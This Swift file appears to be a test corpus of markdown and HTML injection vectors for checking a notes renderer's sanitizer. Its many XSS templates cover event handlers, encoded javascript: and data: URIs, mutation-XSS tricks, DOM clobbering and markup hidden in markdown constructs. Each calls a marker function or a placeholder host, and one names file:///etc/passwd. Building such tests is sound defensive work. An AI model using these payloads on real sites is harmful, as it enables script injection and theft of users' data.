import Foundation

/// Markdown by which somebody would have a page of notes run a script, or tell another host that it was read.
struct InjectionVector: Sendable {
    /// What it calls is `fired(number)`, and what it asks for is `http://vector.invalid/number`.
    let number: Int
    let markdown: String

    /// The payload of a vector is named in its template: `{run}` is a call in JavaScript, `{url}` and `{host}` the address
    /// with and without its scheme, `{document}` a document in Base64 that asks for the address, and `{id}` the number.
    fileprivate init(number: Int, template: String) {
        self.number = number
        let document = Data("<img src=http://vector.invalid/\(number)>".utf8).base64EncodedString()
        markdown =
            template.replacing("{run}", with: "fired(\(number))").replacing("{id}", with: "\(number)")
            .replacing("{url}", with: "http://vector.invalid/\(number)")
            .replacing("{host}", with: "vector.invalid/\(number)").replacing("{document}", with: document)
    }

    static let all: [InjectionVector] = groups.flatMap { $0 }

    /// All vectors, those together that are one template with other words in it.
    static let groups: [[InjectionVector]] = {
        let families = [
            handlerElements.map { element in handlers.map { element.replacing("{handler}", with: $0) } },
            disguises.map { address in addressPlaces.map { $0.replacing("{address}", with: address) } },
            hidingPlaces.map { place in hiddenMarkup.map { place.replacing("{markup}", with: $0) } },
        ]
        let others = [selfFiring, elements, malformed, mutations, clobbering, constructs].joined().map { [$0] }
        var count = 0
        return (families.joined() + others).map { templates in
            templates.map { template in
                count += 1
                return InjectionVector(number: count, template: template)
            }
        }
    }()
}

// MARK: Handlers of events

private let handlers = [
    "onmouseover={run}", "ONMOUSEOVER=\"{run}\"", "\nonmouseover\t= '{run}'", "title=x/onmouseover={run}",
    "id=\"a\"onmouseover=\"{run}\"", "title='\"' onmouseover='{run}'", "title=`x` onmouseover={run}",
]

private let handlerElements = [
    "<b {handler}>text</b>", "<div {handler}>text</div>", "<a href=x {handler}>text</a>",
    "<details {handler}><summary>text</summary></details>", "<table><tr><td {handler}>text</td></tr></table>",
    "<div><b {handler}>text</b></div>",
    "<img src=x alt=text {handler}>", "text <kbd {handler}>key</kbd> text", "<x-note {handler}>text</x-note>",
]

/// These need no reader to do anything.
private let selfFiring = [
    "<img src=x: onerror={run}>", "<div><img src=x: onerror={run} alt=text", "<IMG SRC=x: ONERROR=\"{run}\">",
    "<div><img/src=x:/onerror={run}>", "<img src=x:\tonerror\t=\t{run}>", "text <img\nsrc=x:\nonerror={run}\n>",
    "<img\u{C}src=x:\u{C}onerror={run}>", "<div><img src=\"x:\"onerror=\"{run}\">",
    "<img src=x: onerror=&#102;ired({id})>",
    "<img src=x: onerror=\"&#x66;&#x69;red&lpar;{id}&rpar;\">", "<img src=x: alt=\"> <b>\" onerror={run}>",
    "<img src=x: alt='\" onerror={run} x=\"'>", "<image src=x: onerror={run}>", "<img =x src=x: onerror={run}>",
    "<div><img \"\" src=x: onerror={run}>", "<img src=x: onerror=\"{run}\" onerror=\"0\">",
    "<img src=x: on\u{0}error={run}>",
    "<svg onload={run}>", "<div><svg/onload={run}>", "<div><svg onload={run}//", "<svg><g onload={run}></g></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><set onbegin={run} attributeName=x>",
    "<svg><image href=x: onerror={run} /></svg>", "<video src=x: onerror={run}></video>",
    "<video><source src=x: onerror={run}></video>", "<audio src=x: onerror={run}></audio>",
    "<picture><source srcset=x:><img src=x: onerror={run}></picture>", "<details open ontoggle={run}>text</details>",
    "<details open ontoggle={run}><summary>text</summary>\n\ntext\n\n</details>", "<body onload={run}>",
    "<iframe onload={run}></iframe>", "<iframe srcdoc=text onload={run}>", "<object data=x: onerror={run}></object>",
    "<embed src=about:blank onload={run}>", "<input type=image src=x: onerror={run}>",
    "<link rel=stylesheet href=x: onerror={run}>", "<style onload={run}></style>",
    "<script src=x: onerror={run}></script>", "<input autofocus onfocus={run}>",
    "<b tabindex=0 autofocus onfocus={run}>text</b>", "<marquee onstart={run}>text</marquee>",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart={run}>text</b>",
    "<b style=\"background:url({url})\">text</b>", "<p style='background-image:url(\"{url}\")'>text</p>",
]

// MARK: Addresses

private let disguises = [
    "javascript:{run}", "JavaScript:{run}", "JAVASCRIPT:{run}", "&#106;avascript:{run}", "&#x6a;avascript:{run}",
    "&#0000106;avascript:{run}", "&#X6A;&#97;vascript:{run}", "&#106avascript:{run}", "javascript&colon;{run}",
    "javascript&#58;{run}", "javascript&#x3A;{run}", "java&Tab;script:{run}", "java&NewLine;script:{run}",
    "java&#9;script:{run}", "java&#10;script:{run}", "java&#13;script:{run}", "javascript&#9;:{run}",
    "&#1;javascript:{run}", "&#32;javascript:{run}", "&nbsp;javascript:{run}", "&#0;javascript:{run}",
    "&#14;javascript:{run}", "&amp;#106;avascript:{run}", "javascript&amp;colon;{run}", "java\tscript:{run}",
    "\tjavascript:{run}", "\u{1}javascript:{run}", "\u{8}javascript:{run}", "\u{1F}javascript:{run}",
    "\u{B}javascript:{run}", "\u{C}javascript:{run}", "\u{A0}javascript:{run}", "\u{2028}javascript:{run}",
    "\u{FEFF}javascript:{run}", "\u{200B}javascript:{run}", "java\u{0}script:{run}", "java\u{AD}script:{run}",
    "javascript\u{FF1A}{run}", "%6Aavascript:{run}", "javascript%3A{run}", "javascript%253A{run}",
    "java%0Ascript:{run}", "java%09script:{run}", "%01javascript:{run}", "javascript:%66ired({id})",
    "javascript://%0A{run}", "javascript://vector.invalid/%0A{run}", "javascript:/**/{run}", "javascript\\:{run}",
    "\\javascript:{run}", "java\\script:{run}", "\\&#106;avascript:{run}", "vbscript:{run}", "livescript:{run}",
    "view-source:javascript:{run}", "feed:javascript:{run}", "data:text/html,<img/src={url}>",
    "data:text/html;base64,{document}", "DATA:text/html;base64,{document}", "data&colon;text/html;base64,{document}",
    "data:image/svg+xml;base64,{document}", "data:,{run}", "blob:{url}", "filesystem:{url}", "file:///etc/passwd",
    "about:blank#{id}", "ftp://{host}", "ws://{host}", "x-handler:{run}",
]

private let addressPlaces = [
    "[text](<{address}>)", "![text](<{address}>)", "[text][ref]\n\n[ref]: <{address}>", "<{address}>",
    "<a href=\"{address}\">text</a>", "<img src=\"{address}\" alt=\"text\">", "[[{address}]]",
]

// MARK: Elements that no page of notes may have

private let elements = [
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<script\n>{run}</script\n>", "<div><script/x>{run}</script>",
    "<script src={url}></script>", "<script src=//{host}></script>", "text <script>{run}</script> text",
    "<script type=module>{run}</script>", "<script>\n\n{run}\n\n</script>", "<iframe src={url}></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>", "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe srcdoc=\"&lt;img src={url}&gt;\"></iframe>", "<frameset><frame src={url}></frameset>",
    "<object data={url}></object>", "<object data=javascript:{run}></object>",
    "<object><param name=src value={url}></object>", "<embed src={url}>", "<embed src=javascript:{run}>",
    "<applet code=x codebase={url}></applet>", "<svg><script>{run}</script></svg>",
    "<svg><script href={url} /></svg>", "<svg><image href={url} /></svg>", "<svg><image xlink:href={url} /></svg>",
    "<svg><feImage href={url} /></svg>", "<svg><use href={url}#x /></svg>",
    "<svg><a href=javascript:{run}><text y=20>text</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:{run} /><text y=20>text</text></a></svg>",
    "<svg><foreignObject><img src={url}></foreignObject></svg>", "<svg><style>*{background:url({url})}</style></svg>",
    "<math href=javascript:{run}>text</math>", "<math><maction href=javascript:{run}>text</maction></math>",
    "<math><mtext><img src={url}></mtext></math>", "<style>body{background:url({url})}</style>",
    "<style>@import '{url}';</style>", "<style>@font-face{font-family:f;src:url({url})} *{font-family:f}</style>",
    "<link rel=stylesheet href={url}>", "<link rel=preload as=image href={url}>", "<link rel=icon href={url}>",
    "<link rel=dns-prefetch href=//{host}>", "<link rel=modulepreload href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href={url}/><img src=x>", "<form action={url}><button>text</button></form>",
    "<form action=javascript:{run}><input type=submit></form>", "<button formaction=javascript:{run}>text</button>",
    "<input type=image src={url}>", "<isindex action=javascript:{run}>", "<img src={url}>", "<img src=//{host}>",
    "<img srcset='{url} 1x'>", "<img src=x lowsrc={url} dynsrc={url}>", "<picture><source srcset={url}><img></picture>",
    "<video poster={url}></video>", "<video src={url}></video>", "<audio src={url} autoplay></audio>",
    "<video><track default src={url}></video>", "<table background={url}><tr><td>text</td></tr></table>",
    "<table><tr><td background={url}>text</td></tr></table>", "<body background={url}>", "<image src={url}>",
    "<template><script>{run}</script></template><script>{run}</script>", "<a href=x ping={url}>text</a>",
    "<area href=javascript:{run}>", "<map name=m><area href=javascript:{run}></map><img src=x usemap=#m>",
    "<portal src={url}></portal>", "<bgsound src={url}>", "<dialog open><img src={url}></dialog>",
    "<div><template shadowrootmode=open><img src={url}></template></div>", "<blockquote cite=javascript:{run}>text",
    "<q cite=javascript:{run}>text</q>", "<a xlink:href=javascript:{run}>text</a>", "<?xml-stylesheet href={url} ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '{url}'>]>", "<![CDATA[<script>{run}</script>]]>", "<xml><img src={url}></xml>",
]

// MARK: Markup that is not well formed

private let malformed = [
    "<<script>{run}</script>", "<scr<script>ipt>{run}</scr</script>ipt>", "<script>{run}", "<script <b>{run}</script>",
    "<script>{run}<!--", "</p><script>{run}</script>", "</section></body><script>{run}</script>",
    "<div><script>{run}</div>", "<b <script>{run}</script>", "<a href=\"x\n\n<img src={url}>",
    "<a title=\"><img src={url}>",
    "<img src=x alt='><img src={url}>", "<b title='\"><img src={url}>'>text</b>",
    "<b title=\"'><img src={url}>\">text</b>", "<div><b title=`><img src={url}>`>text</b>",
    "<!-- --><img src={url}> -->",
    "<!--><img src={url}>-->", "<!---><img src={url}>-->", "<!-- --!><img src={url}> -->",
    "<!-- <!-- --><img src={url}> -->", "text <!-- -- --><img src={url}>", "text <!--><img src={url}>-->",
    "<!-- \n\n<img src={url}>", "text <!-- \n\n<img src={url}>", "<!><img src={url}>", "</ ><img src={url}>",
    "<?><img src={url}>?>",
    "<? ?><img src={url}>", "<!X ><img src={url}>", "<![CDATA[><img src={url}>]]>", "<![CDATA[ ]]><img src={url}>",
    "<%><img src={url}>%>", "<img\u{0} src={url}>", "<\u{0}img src={url}>", "<img src\u{0}={url}>",
    "\u{0}<img src={url}>",
    "&lt;script>{run}</script>", "\\<img src={url}>", "\\\\<img src={url}>", "`<img src={url}>", "``<img src={url}>`",
    "*<img src={url}>*", "</b></b></div></div><img src={url}>", "<table><img src={url}></table>",
    "<td></table><img src={url}>", "<p><p></p></p></p><img src={url}>", "<h1><img src={url}></h2>", "<img src={url}",
    "<img src={url} <b>", "<div><img src=\"{url}", "<div><img src={url} alt=\"", "<img src=x src={url}>",
    "<img src={url} src=x>",
    "\u{FF1C}img src={url}\u{FF1E}", "\u{2039}img src={url}\u{203A}", "+ADw-img src={url}+AD4-",
    "<div><a/href=javascript:{run}>text",
    "<a href=x href=javascript:{run}>text</a>", "<a\thref\t=\tjavascript:{run}>text</a>",
    "<div><a href=javascript:{run}",
    "<a href='javascript:{run}'><a href='javascript:{run}'>text</a></a>", "<div><a href=java\nscript:{run}>text</a>",
    "<a href='java\nscript:{run}'>text</a>", "<a href=' javascript:{run}'>text</a>",
    "<a name=x\nhref=javascript:{run}>text</a>",
]

// MARK: Markup that changes its meaning when it is read a second time, or in another place

private let mutations = [
    "<noscript><p title=\"</noscript><img src={url}>\">", "<noscript><!--</noscript><img src={url}>--></noscript>",
    "<title><img title=\"</title><img src={url}>\">", "<textarea><img title=\"</textarea><img src={url}>\">",
    "<textarea></textarea><img src={url}>", "<title></title><img src={url}>",
    "<style><img title=\"</style><img src={url}>\">", "<xmp><p title=\"</xmp><img src={url}>\"></xmp>",
    "<noembed><p title=\"</noembed><img src={url}>\">", "<noframes><p title=\"</noframes><img src={url}>\">",
    "<iframe><p title=\"</iframe><img src={url}>\">", "<plaintext></plaintext><img src={url}>",
    "<select><option><img src={url}></select>", "<select><script>{run}</script></select>",
    "<svg></p><style><a title=\"</style><img src={url}>\">", "<svg><p><style><a title=\"</style><img src={url}>\">",
    "<svg><title><style><img title=\"</style><img src={url}>\">", "<svg><desc><img src={url}></desc></svg>",
    "<svg><![CDATA[</svg><img src={url}>]]>", "<svg><!--</svg><img src={url}>-->",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src={url}>\">",
    "<math><annotation-xml encoding=text/html><img src={url}></annotation-xml></math>",
    "<math><mi><style><img title=\"</style><img src={url}>\"></style></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src={url}>",
    "<table><tr><td><form></td></tr></form><img src={url}></table>", "<table><caption><img src={url}></table>",
    "<p><svg><p><img src={url}>", "<template><p title=\"</template><img src={url}>\">",
    "<b title=\"&lt;img src={url}&gt;\">text</b>", "<b title=\"&quot;&gt;&lt;img src={url}&gt;\">text</b>",
    "<b title=\"&amp;quot;&amp;gt;&amp;lt;img src={url}&amp;gt;\">text</b>", "&lt;img src={url}&gt;",
    "&amp;lt;img src={url}&amp;gt;", "&#60;img src={url}&#62;", "&#x3c;img src={url}&#x3e;",
    "<b>&lt;img src={url}&gt;</b>",
    "<pre>&lt;img src={url}&gt;</pre>", "<div>\n&lt;script&gt;{run}&lt;/script&gt;\n</div>",
    "<listing>&lt;img src={url}&gt;</listing>", "<img alt=\"`` onerror={run}\" src=x:>",
    "<a href=\"&quot; onfocus=&quot;{run}&quot; autofocus x=&quot;\">text</a>",
    "<img src=\"x:&quot; onerror=&quot;{run}\">", "<a id='\" onfocus={run} autofocus tabindex=0 x=\"'>text</a>",
]

// MARK: Names that take the place of the document's own

private let clobbering = [
    "# body\n\n<img src={url}>", "# fired\n\n<script>{run}</script>", "# getElementById\n\n<img src=x: onerror={run}>",
    "<a id=body>text</a><img src={url}>", "<a name=location href=javascript:{run}>text</a>",
    "<img name=createElement src={url}>", "<form name=document><input name=cookie></form><img src={url}>",
    "<form id=x><input name=attributes></form><svg onload={run}>", "<a id=fired href=javascript:{run}>text</a>",
    "<div id='x\"onmouseover=\"{run}'>text</div>", "<a name='\"><img src={url}>'>text</a>",
    "# \" onmouseover=\"{run}\" x=\"", "# '><img src={url}>", "# <img src={url}>", "<img src={url}>\n===",
]

// MARK: Markdown's own constructs as places to hide markup in

private let hiddenMarkup = [
    "<script>{run}</script>", "<img src={url}>", "<b onmouseover={run}>text</b>", "<svg onload={run}>",
]

private let hidingPlaces = [
    "| a | b |\n|---|---|\n| {markup} | c |", "| {markup} |\n|---|\n| a |", "text[^1]\n\n[^1]: {markup}",
    "text[^1]\n\n[^1]: text\n\n    {markup}", "> [!NOTE]\n> {markup}", "> [!TIP] {markup}\n> text",
    "> [!CAUTION]- {markup}\n> text",
    "> [!{markup}]\n> text", "- [ ] {markup}", "- [x] text\n\n  {markup}", "# {markup}", "~~{markup}~~", "**{markup}**",
    "[{markup}](x)", "![{markup}](x)", "[text](x '{markup}')", "![text](x \"{markup}\")", "[text](x (\"{markup}))",
    "1. > - {markup}", "$a$ {markup} $b$", "${markup}$", "$${markup}$$", "$`{markup}`$", "```math\n{markup}\n```",
    "[[{markup}]]", "[[x|{markup}]]", "[[x#{markup}]]", "`{markup}`", "```html\n{markup}\n```",
    "~~~{markup}\ntext\n~~~",
    "    {markup}", "<details><summary>{markup}</summary>\n\n{markup}\n\n</details>",
    "<div align=center>\n\n{markup}\n\n</div>",
    "[{markup}]: x\n\n[{markup}]", "https://vector.invalid/{markup}", "www.vector.invalid/{markup}",
    "<https://vector.invalid/\"{markup}>", "{% highlight html %}\n{markup}\n{% endhighlight %}",
    "<!-- chart: {markup} -->",
    "<!-- chart: x --> {markup}", "---\ntitle: {markup}\n---\n\n{markup}",
]

private let constructs = [
    "```x\"onmouseover=\"{run}\ntext\n```", "```\"><img/src={url}>\ntext\n```", "``` {.x\"><img/src={url}>}\ntext\n```",
    "~~~ '\"onmouseover={run}\ntext\n~~~", "[text](x \"\\\" onmouseover=\\\"{run}\")",
    "![text](x: \"\\\" onerror=\\\"{run}\")",
    "![\" onerror=\"{run}](x:)", "![\\\" onerror={run} x=\\\"](x:)", "![text](x:\"onerror=\"{run})",
    "[text](x\"onmouseover=\"{run})",
    "[text](<x\" onmouseover=\"{run}>)", "[text](x'onmouseover='{run})", "![text]({url})", "![text](//{host})",
    "![text](<http:/{host}>)", "![text](<http:\\\\\\\\{host}>)", "![text](<\\\\\\\\\\\\\\\\{host}>)",
    "![text](</\\\\{host}>)",
    "![text](</&Tab;/{host}>)", "![text](<&#32;//{host}>)", "![text](<&#1;//{host}>)", "![text](///{host})",
    "![text](</%09/{host}>)", "![text](HTTP://{host})", "![text](h&Tab;ttp://{host})",
    "![text][r]\n\n[r]: {url} \"title\"",
    "[![text]({url})](javascript:{run})", "[![text](javascript:{run})]({url})", "![![text]({url})]({url})",
    "![a <img src={url}> b](x)", "![a [b](javascript:{run}) c](x)", "<img src='/\\{host}'>", "<img src='\\\\{host}'>",
    "<img src='/\t/{host}'>", "<img src=' //{host}'>", "<img src='http:{host}'>", "<img src='&#1;//{host}'>",
    "<img src='/&NewLine;/{host}'>", "<img src='/&#10;/{host}'>", "<img src='HT&#9;TP://{host}'>",
    "[text](javascript:{run}", "[text]( javascript:{run} )", "[text](\njavascript:{run}\n)",
    "[text](javascript:{run} \"title\")",
    "[a](x)[b](javascript:{run})", "[javascript:{run}]", "[text][javascript:{run}]",
    "[ref]: javascript:{run}\n[ref]: x\n\n[ref]",
    "[text][ref]\n\n> [ref]: javascript:{run}", "javascript:{run}", "www.javascript:{run}",
    "http://\"onmouseover={run}",
    "http://x/'onmouseover='{run}", "http://x/`onmouseover={run}", "mailto:a@b.c?\"onmouseover=\"{run}",
    "a\"onmouseover={run}@b.c",
    "<a@b.c\"onmouseover={run}>", "[^{run}]\n\n[^{run}]: <img src={url}>",
    "[^\"><img/src={url}>]\n\n[^\"><img/src={url}>]: text",
    "[[javascript:{run}|text]]", "[[\"onmouseover=\"{run}]]", "[[x\"><img src={url}>|y]]", "[[//{host}|{url}]]",
    "| a |\n|:\"onmouseover={run}:|\n| b |", "1\" onmouseover=\"{run}. text", "- [\"onmouseover=\"{run}] text",
]
